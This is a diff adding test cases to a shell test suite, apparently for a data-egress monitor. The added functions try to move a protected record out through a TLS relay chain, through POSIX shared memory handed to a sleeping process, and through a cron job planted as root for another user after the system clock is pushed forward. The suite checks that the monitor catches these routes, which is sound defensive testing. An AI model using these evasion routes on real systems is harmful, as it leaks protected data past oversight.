@@ -190,6 +190,18 @@ attack_many-hops() {
 	wait "${HOPS[@]}"
 }
 
+evade many-hops-tls egress "$RELAYS" 'the same, and then by TLS'
+layout_many-hops-tls() { gzip -n <"$R" >spoor; }
+attack_many-hops-tls() {
+	local port
+	port=$(a_port)
+	"$CARRY" pass "tcp-l,127.0.0.1,$port" - | timeout 10 "$TREE/tests/guest/tls.py" tls /dev/stdin 10.9.0.3 4433 &
+	HOPS+=($!)
+	hop unix-l,socket "tcp,127.0.0.1,$port"
+	"$CAT" "$R" | gzip -n | "$CARRY" pass - unix,socket
+	wait "${HOPS[@]}"
+}
+
 # --- memory ---
 
 DECIDED='operations=read reason=not_granted'
@@ -219,6 +231,11 @@ relay_memory() {
 
 evade posix-shm-early egress "$MEMORY" 'of POSIX, mapped by both before the record is read'
 attack_posix-shm-early() { relay_memory "posix-shm,/$I" "posix-shm,/$I" first && rm -f "/dev/shm/$I"; }
+
+evade shm-sleeper egress "$MEMORY" 'of POSIX, to who sleeps there and has a connection to the far side'
+attack_shm-sleeper() {
+	hop "posix-shm,/$I" "$FAR_TCP" first && soon test -e ready && tell "posix-shm,/$I" first && rm -f "/dev/shm/$I"
+}
 
 evade sysv-shm-early egress "$MEMORY" 'of System V, mapped by who waits for it'
 attack_sysv-shm-early() {
@@ -273,6 +290,20 @@ evade copied-user egress "$FILES" 'a copy in /tmp, read by another user' who=roo
 attack_copied-user() {
 	local copy=/tmp/$I.$PASS
 	"$CAT" "$R" >"$copy" && as news "$CARRY" pass "file,$copy" "$FAR_UDP" && rm -f "$copy"
+}
+
+evade copied-cron egress "$FILES" 'a copy in /tmp, sent by another user'"'"'s job an hour later' who=root \
+	entry="$DECIDED uid=${M_UID[news]}" native='the clock is the machine'"'"'s'
+attack_copied-cron() {
+	local copy=/tmp/$I.$PASS cron
+	"$CAT" "$R" >"$copy" && chmod 644 "$copy" || return
+	echo "* * * * * news $CARRY pass file,$copy $FAR_UDP; : >$W/job" >/etc/cron.d/evade && chmod 644 /etc/cron.d/evade || return
+	date -s "@$((($(date +%s) + 3600) / 60 * 60 + 57))" >/dev/null || return # cron looks for jobs as a minute begins
+	cron -f &
+	cron=$!
+	soon test -e job
+	kill "$cron"
+	rm -f /etc/cron.d/evade "$copy"
 }
 
 evade copied-linked egress "$FILES" 'a copy, renamed and linked' entry="$DECIDED"
